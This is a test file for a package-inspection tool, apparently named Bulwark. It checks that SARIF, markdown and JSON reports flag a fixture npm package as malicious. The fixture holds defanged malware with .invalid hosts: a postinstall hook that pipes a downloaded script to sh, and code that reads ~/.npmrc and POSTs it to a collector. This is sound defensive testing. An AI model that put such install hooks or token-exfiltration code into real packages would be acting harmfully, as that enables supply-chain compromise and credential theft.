import { describe, expect, it } from 'vitest';
import { analyzeFiles, type PackageAnalysis } from '../analysis/analyze.js';
import { INSPECTION_FORMATS, renderInspectionReport } from './inspection-report.js';
import { buildInspectionSarif } from './inspection-sarif.js';
import { validateSarif as validate } from './testdata/schema-validators.js';

const text = (value: string) => ({ bytes: new TextEncoder().encode(value) });

/** The real analyser over a defanged stealer (catalog §4.2–4.4): .invalid hosts, never run. */
const stealer = (): PackageAnalysis => ({
  ...analyzeFiles(
    new Map([
      [
        'package.json',
        text(
          JSON.stringify({
            name: 'fixture-stealer',
            version: '1.0.0',
            scripts: { postinstall: 'curl -s https://payload.invalid/install.sh | sh' },
          }),
        ),
      ],
      [
        'lib/a dir/index.js',
        text(
          [
            "const fs = require('fs');",
            "const https = require('https');",
            "const os = require('os');",
            "const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); // \u001b[2J | `x`",
            "const req = https.request({ hostname: 'collector.invalid', path: '/c', method: 'POST' });",
            'req.write(npmrc);',
          ].join('\n'),
        ),
      ],
    ]),
  ),
  problems: [{ kind: 'limit', limit: 'entries', message: 'too many <entries>' }],
  complete: false,
});

const clean = (): PackageAnalysis => ({
  ...analyzeFiles(
    new Map([
      ['package.json', text('{"name":"fixture-add","version":"1.0.0"}')],
      ['index.js', text('module.exports = (a, b) => a + b;\n')],
    ]),
  ),
  problems: [],
  complete: true,
});

describe('inspect report formats', () => {
  it('sarif is valid SARIF 2.1.0, one result per rule finding, located in the package files', () => {
    const analysis = stealer();
    expect(analysis.verdict).toBe('malicious');
    const log = buildInspectionSarif(analysis, '0.1.0');
    expect(validate(log), JSON.stringify(validate.errors)).toBe(true);
    const run = log.runs[0]!;
    expect(run.results).toHaveLength(analysis.findings.length);
    expect(run.properties).toMatchObject({ verdict: 'malicious', complete: false });
    const located = run.results!.find((r) =>
      r.locations?.[0]?.physicalLocation?.artifactLocation?.uri?.startsWith('lib/'),
    );
    expect(located?.locations?.[0]?.physicalLocation?.artifactLocation?.uri).toBe('lib/a%20dir/index.js');
    const ruleIds = run.tool.driver.rules!.map((r) => r.id);
    expect(ruleIds).toContain('install-script-download-exec');
    expect(new Set(ruleIds).size).toBe(ruleIds.length);
    for (const result of run.results!) expect(ruleIds[result.ruleIndex!]).toBe(result.ruleId);
    expect(JSON.stringify(log)).not.toContain('\u001b');
    expect(validate(buildInspectionSarif(clean(), '0.1.0'))).toBe(true);
  });

  it('markdown puts the verdict first, escapes package text, and folds archive problems', () => {
    const md = renderInspectionReport(stealer(), 'markdown');
    expect(md.split('\n')[0]).toBe(
      '## Bulwark inspect: `fixture-stealer@1.0.0` is MALICIOUS (score ' +
        `${stealer().score.toFixed(1)}/10)`,
    );
    expect(md).toContain('> [!CAUTION]');
    expect(md).toContain('| Severity | Rule | Kind | Where | Finding |');
    expect(md).toContain('`install-script-download-exec`');
    expect(md).toContain('too many &lt;entries&gt;');
    expect(md).not.toContain('\u001b');
    expect(renderInspectionReport(clean(), 'markdown')).toContain('is CLEAN (score 0.0/10)');
  });

  it('every format renders; json is the analysis itself', () => {
    const analysis = stealer();
    for (const format of INSPECTION_FORMATS)
      expect(renderInspectionReport(analysis, format).length).toBeGreaterThan(50);
    expect(JSON.parse(renderInspectionReport(analysis, 'json'))).toEqual(analysis);
  });
});
